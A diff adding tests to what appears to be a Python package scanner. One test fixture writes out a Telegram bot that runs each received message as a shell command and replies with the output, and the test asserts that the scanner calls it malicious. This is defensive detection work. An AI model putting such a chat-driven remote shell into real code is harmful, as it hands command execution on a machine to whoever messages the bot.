@@ -487,3 +487,26 @@ def test_ordinary_paste_words_are_not_endpoints() -> None:
     from pipwarden.scan.patterns import endpoint
 
     assert endpoint("https://docs.example.invalid/copy-paste-guide") is None
+
+
+BOT = (
+    "import subprocess, telebot\nbot = telebot.TeleBot(TOKEN)\n"
+    "@bot.message_handler(func=lambda m: True)\ndef on(message):\n{body}"
+)
+
+
+def test_chat_bot_running_the_messages_it_receives_is_a_remote_shell(tmp_path: Path) -> None:
+    body = "    out = subprocess.check_output(message.text, shell=True)\n    bot.reply_to(message, out)\n"
+    (tmp_path / "bot.py").write_text(BOT.format(body=body))
+    assert scan_target(tmp_path).verdict == "malicious"
+
+
+def test_chat_bot_answering_messages_and_a_cli_command_stay_quiet(tmp_path: Path) -> None:
+    (tmp_path / "bot.py").write_text(
+        BOT.format(body="    bot.reply_to(message, message.text.upper())\n")
+    )
+    (tmp_path / "cli.py").write_text(
+        "import subprocess, click\n@click.group()\ndef cli():\n    pass\n"
+        "@cli.command()\ndef build(target):\n    subprocess.run(['make', target])\n"
+    )
+    assert scan_target(tmp_path).verdict == "clean"
